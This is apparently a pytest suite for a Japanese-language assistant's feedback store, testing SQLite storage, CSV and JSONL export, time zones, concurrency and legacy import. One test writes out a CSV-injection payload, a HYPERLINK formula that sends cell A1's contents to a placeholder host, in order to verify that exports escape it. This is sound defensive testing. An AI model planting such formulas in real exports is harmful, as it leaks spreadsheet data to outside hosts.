"""Feedback storage: the page's database (a real SQLite file under the data folder, through
SQLAlchemy), exported as CSV and JSONL in Japan time."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import threading
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from assistant.db import DB_FILE, Database, database_url
from assistant.feedback import LEGACY_DB_NAME, FeedbackStore, import_legacy_feedback
from assistant.settings import load_settings
from assistant.types import Citation

CITATION = Citation(n=1, source="midori_yuki.txt", title="緑町雪かきボランティア事業報告", city="緑町",
                    section="1 事業の概要", page=None, quote="延べ85人が参加しました。", chunk_id="c1",
                    start=10, end=22)


def store_in(data_dir: Path) -> FeedbackStore:
    """The store of a page whose data folder is `data_dir` (the default database URL)."""
    return FeedbackStore(Database(database_url(load_settings(data_dir=data_dir))))


def test_record_and_list(tmp_path: Path) -> None:
    store = store_in(tmp_path / "data")
    assert store.list_feedback() == []
    first = store.record("参加人数は？", "85人 [1]。", [CITATION], rating=1, comment=" 助かりました ",
                         standalone_question="緑町の雪かきボランティアの参加人数は？", generation="g1")
    second = store.record("宇宙の予算は？", "資料には該当する記載が見つかりませんでした。", [], rating=-1,
                          abstained=True)
    assert (tmp_path / "data" / DB_FILE).is_file()

    rows = store_in(tmp_path / "data").list_feedback()  # a new store reads the same file
    assert [r.id for r in rows] == [second, first]  # newest first
    good = rows[1]
    assert good.rating == 1 and good.comment == "助かりました"
    assert good.question == "参加人数は？" and good.answer == "85人 [1]。"
    assert good.standalone_question == "緑町の雪かきボランティアの参加人数は？"
    assert good.citations == [{"n": 1, "source": "midori_yuki.txt", "title": "緑町雪かきボランティア事業報告",
                               "city": "緑町", "section": "1 事業の概要", "page": None,
                               "quote": "延べ85人が参加しました。"}]
    assert good.mode == "extractive" and good.generation == "g1" and not good.abstained
    assert rows[0].abstained and rows[0].citations == []
    assert store.counts() == {1: 1, -1: 1}


def test_update_and_delete(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    fid = store.record("q", "a", [CITATION], rating=1)
    store.update(fid, comment="出典が正しい")
    store.update(fid, rating=-1)
    (row,) = store.list_feedback()
    assert (row.rating, row.comment) == (-1, "出典が正しい")
    assert row.updated_at >= row.created_at
    with pytest.raises(KeyError):
        store.update(fid + 100, comment="x")
    store.delete(fid)
    assert store.list_feedback() == []


@pytest.mark.parametrize("rating", [0, 2, -2, 5])
def test_rating_must_be_plus_or_minus_one(tmp_path: Path, rating: int) -> None:
    with pytest.raises(ValueError, match="評価"):
        store_in(tmp_path).record("q", "a", [], rating=rating)


def test_citations_may_be_dicts(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    store.record("q", "a", [{"n": 2, "source": "x.md", "title": "X", "extra": "dropped"}], rating=1)
    assert store.list_feedback()[0].citations == [
        {"n": 2, "source": "x.md", "title": "X", "city": None, "section": None, "page": None, "quote": None}]


def test_export_csv_opens_in_excel(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    store.record("参加人数は？", "85人 [1]。\n- 延べ85人 [1]", [CITATION], rating=1, comment="カンマ, と\"引用符\"")
    data = store.export_csv()
    assert data.startswith("\ufeff".encode("utf-8"))  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:5] == ["id", "日時（日本時間）", "評価", "コメント", "質問"]
    assert rows[1][2:5] == ["👍", "カンマ, と\"引用符\"", "参加人数は？"]
    assert rows[1][6] == "85人 [1]。\n- 延べ85人 [1]"
    assert rows[1][7] == "[1] 緑町雪かきボランティア事業報告 / 1 事業の概要"


def test_export_jsonl(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    assert store.export_jsonl() == b""
    store.record("q1", "a1", [CITATION], rating=1)
    store.record("q2", "a2", [], rating=-1, comment="違う")
    lines = store.export_jsonl().decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["question"] for r in records] == ["q2", "q1"]
    assert records[0]["rating"] == -1 and records[0]["comment"] == "違う"
    assert records[1]["citations"][0]["quote"] == "延べ85人が参加しました。"


def test_concurrent_writers(tmp_path: Path) -> None:
    """Streamlit runs each session in its own thread: every call opens its own connection."""
    store = store_in(tmp_path)

    def write(i: int) -> None:
        for j in range(5):
            store.record(f"q{i}-{j}", "a", [], rating=1 if j % 2 else -1)

    threads = [threading.Thread(target=write, args=(i,)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(store.list_feedback()) == 20
    with sqlite3.connect(store.db.path) as conn:  # a plain SQLite file other tools can read
        assert conn.execute("SELECT COUNT(*) FROM feedback WHERE rating = 1").fetchone()[0] == 8


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_csv_escapes_formulas_in_user_text(tmp_path: Path, start: str) -> None:
    """CSV injection (OWASP): text a spreadsheet would run as a formula starts with an apostrophe."""
    store = store_in(tmp_path)
    formula = f'{start}HYPERLINK("http://example.invalid/?d="&A1,"詳細")'
    store.record(question=formula, answer_text=f"{start}1+1", citations=[{"n": 1, "title": formula}], rating=-1,
                 comment=formula, standalone_question=formula)
    rows = list(csv.reader(io.StringIO(store.export_csv().decode("utf-8-sig"), newline="")))
    header, row = rows[0], dict(zip(rows[0], rows[1]))
    assert header[3:8] == ["コメント", "質問", "検索に使った質問", "回答", "出典"]
    for column in ("質問", "検索に使った質問"):
        assert row[column] == "'" + formula, column
    comment = formula.strip()  # comments are stored stripped: a leading tab or CR is gone already
    assert row["コメント"] == ("'" + comment if comment[0] in "=+-@" else comment)
    assert row["回答"] == f"'{start}1+1"
    assert row["出典"].startswith("[1] ")  # the citation cell starts with its number; nothing to escape
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    # JSONL is data, not a spreadsheet: kept exactly.
    assert json.loads(store.export_jsonl())["question"] == formula


def test_export_csv_keeps_ordinary_text(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    store.record("参加人数は？", "85人 [1]。", [], rating=1, comment="マイナス-1ではなく正しい")
    row = list(csv.reader(io.StringIO(store.export_csv().decode("utf-8-sig"))))[1]
    assert row[3:5] == ["マイナス-1ではなく正しい", "参加人数は？"]


def test_times_are_stored_in_utc_and_exported_in_japan_time(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    store.record("q", "a", [], rating=1)
    (row,) = store.list_feedback()
    stored = datetime.fromisoformat(row.created_at)
    assert stored.utcoffset() == timedelta(0)
    csv_row = list(csv.reader(io.StringIO(store.export_csv().decode("utf-8-sig"))))[1]
    assert csv_row[1] == stored.astimezone(timezone(timedelta(hours=9))).strftime("%Y-%m-%d %H:%M:%S")
    exported = json.loads(store.export_jsonl())
    assert exported["created_at"].endswith("+09:00")
    assert datetime.fromisoformat(exported["created_at"]) == stored  # the same moment


def test_a_correction_is_kept_and_exported(tmp_path: Path) -> None:
    store = store_in(tmp_path)
    fid = store.record("参加人数は？", "12日 [1]。", [CITATION], rating=-1)
    store.update(fid, comment="人数ではない", correction=" 延べ85人 ")
    (row,) = store.list_feedback()
    assert (row.comment, row.correction) == ("人数ではない", "延べ85人")
    header, values = list(csv.reader(io.StringIO(store.export_csv().decode("utf-8-sig"))))
    assert dict(zip(header, values))["訂正"] == "延べ85人"
    store.update(fid, correction="")
    assert store.get(fid).correction is None


def test_concurrent_writers_in_several_processes(tmp_path: Path) -> None:
    """Several page instances (processes) write to one database at the same time: none is lost."""
    script = (
        "import sys; from pathlib import Path;"
        "from assistant.db import Database, database_url; from assistant.settings import load_settings;"
        "from assistant.feedback import FeedbackStore;"
        "s = FeedbackStore(Database(database_url(load_settings(data_dir=Path(sys.argv[1])))));"
        "[s.update(s.record(f'q{sys.argv[2]}-{i}', 'a', [], rating=1), comment='x') for i in range(15)]"
    )
    procs = [subprocess.Popen([sys.executable, "-c", script, str(tmp_path), str(n)]) for n in range(3)]
    assert [p.wait(timeout=120) for p in procs] == [0, 0, 0]
    rows = store_in(tmp_path).list_feedback()
    assert len(rows) == 45 and {r.comment for r in rows} == {"x"}


def test_feedback_of_the_old_file_is_imported_once(tmp_path: Path) -> None:
    legacy = tmp_path / LEGACY_DB_NAME
    with sqlite3.connect(legacy) as conn:
        conn.execute(
            "CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, updated_at TEXT"
            " NOT NULL, rating INTEGER NOT NULL, comment TEXT NOT NULL DEFAULT '', question TEXT NOT NULL,"
            " standalone_question TEXT, answer TEXT NOT NULL, citations TEXT NOT NULL, mode TEXT NOT NULL,"
            " abstained INTEGER NOT NULL DEFAULT 0, generation TEXT)")
        conn.execute("INSERT INTO feedback VALUES (1, '2026-11-20T01:00:00+00:00', '2026-11-20T01:00:00+00:00', -1,"
                     " '古い', '参加人数は？', NULL, '12日', '[]', 'extractive', 0, 'g0')")
    conn.close()
    store = store_in(tmp_path)
    assert import_legacy_feedback(store.db, tmp_path) == 1
    assert import_legacy_feedback(store.db, tmp_path) == 0  # renamed: not imported twice
    (row,) = store.list_feedback()
    assert (row.rating, row.comment, row.question, row.created_at) == (-1, "古い", "参加人数は？",
                                                                      "2026-11-20T01:00:00+00:00")
    assert not legacy.exists() and (tmp_path / (LEGACY_DB_NAME + ".imported")).is_file()
